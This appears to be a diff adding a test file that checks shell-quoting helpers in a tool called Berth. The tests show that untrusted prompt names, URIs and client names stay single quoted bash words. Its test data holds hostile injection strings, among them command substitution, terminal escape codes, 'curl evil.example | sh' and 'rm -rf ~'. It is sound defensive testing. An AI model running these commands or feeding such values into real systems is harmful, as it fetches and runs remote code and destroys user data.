@@ -1,0 +1,103 @@
+// Commands Berth suggests carry an upstream's or an agent's words (a prompt's name, a resource's URI,
+// a tool id, a client's name). Each is written as one shell word: bash, given the suggestion, must
+// see exactly that string as one argument, whatever it holds, and the suggestion itself must hold
+// nothing a terminal obeys.
+import { execFileSync } from "node:child_process"
+import { describe, expect, it } from "vitest"
+import type { WorkspaceState } from "../../projections/state.ts"
+import { shellQuoted, shellWord } from "../../src/admin/shell-word.ts"
+import { allowCommand } from "../../src/bots/allowlist.ts"
+import { quarantineReport } from "../../src/cli/plugin.ts"
+import { promptRefusal, resourceRefusal } from "../../src/mcp/pinned-reads.ts"
+
+const HOSTILE = [
+  "x; touch /tmp/pwned",
+  "it's $(id) and `id` && id | id > out",
+  "repo://acme/readme?a=1&b=2#top",
+  "two\nlines",
+  "a\\b\\'c'",
+  "\u001b]0;owned\u0007\u001b[2J",
+  "\u009b31m C1 and \u202e bidi and \u2028 separator",
+  "café ☕",
+  "*glob?[ab]",
+  "~root",
+  ""
+]
+
+/** The arguments bash reads from `printf '%s\0'` and the given words: exactly what it was asked to run. */
+const bashArgs = (words: string): Array<string> =>
+  execFileSync("bash", ["-c", `printf '%s\\0' ${words}`]).toString("utf8").split("\0").slice(0, -1)
+
+/** What a terminal would obey (as src/cli/printable.ts has it). */
+const UNPRINTABLE = /[\p{Cc}\p{Bidi_Control}\u2028\u2029]/u
+
+describe("shell words in suggested commands", () => {
+  it("bash reads each word back as exactly its string, as one argument, and the word is printable", () => {
+    for (const s of HOSTILE) {
+      for (const word of [shellWord(s), shellQuoted(s)]) {
+        expect(bashArgs(word), JSON.stringify(word)).toEqual([s])
+        expect(word, JSON.stringify(word)).not.toMatch(UNPRINTABLE)
+      }
+    }
+    // Several in one command line stay apart.
+    expect(bashArgs(HOSTILE.map(shellWord).join(" "))).toEqual(HOSTILE)
+  })
+
+  it("keeps Berth's own names bare, and quotes anything else", () => {
+    expect(shellWord("up__echo")).toBe("up__echo")
+    expect(shellWord("test://readme")).toBe("test://readme")
+    expect(shellWord("x; touch /tmp/pwned")).toBe("'x; touch /tmp/pwned'")
+    expect(shellWord("it's")).toBe(`'it'\\''s'`)
+    expect(shellWord("\u001b[2J")).toBe(`$'\\x1b[2J'`)
+    expect(shellWord("\u202e")).toBe(`$'\\u202e'`)
+    expect(shellQuoted("bot")).toBe("'bot'")
+  })
+
+  /** The backquoted command a refusal suggests. */
+  const suggested = (text: string | undefined) => /`(berth .*)`\)?$/.exec(text ?? "")?.[1]
+
+  it("refusals of a quarantined prompt or resource suggest a command that approves exactly that one", () => {
+    const name = HOSTILE[1]!
+    const uri = HOSTILE[2]!
+    const state = {
+      prompts: { [`up__${name}`]: { status: "quarantined" } },
+      resources: { [`up:${uri}`]: { status: "quarantined" } }
+    } as unknown as WorkspaceState
+    const prompt = suggested(promptRefusal(state, "up", name))
+    expect(bashArgs(prompt!.slice("berth ".length))).toEqual(["prompt", "approve", "up", name])
+    const resource = suggested(resourceRefusal(state, "up", uri))
+    expect(bashArgs(resource!.slice("berth ".length))).toEqual(["resource", "approve", "up", uri])
+  })
+
+  it("a bot refusal's allow command names the client's own name, quoted, whatever the client called itself", () => {
+    const name = "Bot'; curl evil.example | sh; echo '\u001b[2J"
+    const command = allowCommand("acme", { name }, { admitted: false })
+    expect(command).not.toMatch(UNPRINTABLE)
+    expect(bashArgs(command.slice("berth ".length))).toEqual(["-w", "acme", "bot", "allow", name])
+  })
+
+  it("a refresh report keeps each quarantine on one line, with a command that approves exactly it", () => {
+    const prompt = "greet\nquarantined prompt fake: forged line (approve again: berth prompt approve up fake; rm -rf ~)"
+    const uri = "repo://x?a=1&b=$(id)"
+    const events = [
+      { type: "ToolQuarantined", data: { tool: "up__e`id`", reason: "the tool's definition changed since it was approved" } },
+      { type: "PromptQuarantined", data: { plugin: "up", prompt, reason: "the prompt's definition changed since it was approved" } },
+      { type: "ResourceQuarantined", data: { plugin: "up", uri, reason: "the resource's definition changed since it was approved" } }
+    ]
+    const lines = quarantineReport("up", { seq: 9, replayed: false, events } as unknown as Parameters<typeof quarantineReport>[1])
+    expect(lines).toHaveLength(3)
+    for (const line of lines) expect(line).not.toMatch(UNPRINTABLE)
+    // Each line ends with its command, and bash reads that command as approving exactly that one.
+    const wanted = [
+      [`berth tool approve ${shellWord("up__e`id`")}`, ["tool", "approve", "up__e`id`"]],
+      [`berth prompt approve up ${shellWord(prompt)}`, ["prompt", "approve", "up", prompt]],
+      [`berth resource approve up ${shellWord(uri)}`, ["resource", "approve", "up", uri]]
+    ] as const
+    wanted.forEach(([command, args], i) => {
+      expect(lines[i]!.endsWith(`(approve again: ${command})`), lines[i]).toBe(true)
+      expect(bashArgs(command.slice("berth ".length))).toEqual(args)
+    })
+    // The forged text stays inside the quoted name, never bare on the line.
+    expect(lines[1]).toMatch(/^quarantined prompt \$'greet\\x0aquarantined prompt fake: forged line \(approve again: berth prompt approve up fake; rm -rf ~\)': /)
+  })
+})
